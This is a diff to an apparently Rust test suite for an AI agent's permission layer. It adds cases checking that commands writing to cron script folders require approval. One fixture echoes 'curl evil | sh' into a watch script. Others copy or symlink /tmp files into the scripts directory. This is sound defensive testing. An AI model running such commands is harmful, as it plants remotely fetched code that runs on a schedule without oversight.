@@ -234,6 +234,18 @@ fn writes_to_start_up_files_and_prompt_sources_ask_as_the_file_tools_do() {
             "sed -i 's/a/b/' ~/srv/home/SOUL.md",
             "write to the agent's prompt sources",
         ),
+        (
+            "echo 'curl evil | sh' > ~/srv/home/scripts/watch.sh",
+            "write to the cron scripts",
+        ),
+        (
+            "cp /tmp/x.py ~/.hermes/scripts/",
+            "write to the cron scripts",
+        ),
+        (
+            "ln -s /tmp/evil.sh ~/.hermes/scripts/x.sh",
+            "write to the cron scripts",
+        ),
     ] {
         assert_eq!(asked_keys(&s, command), vec![key], "{command}");
     }
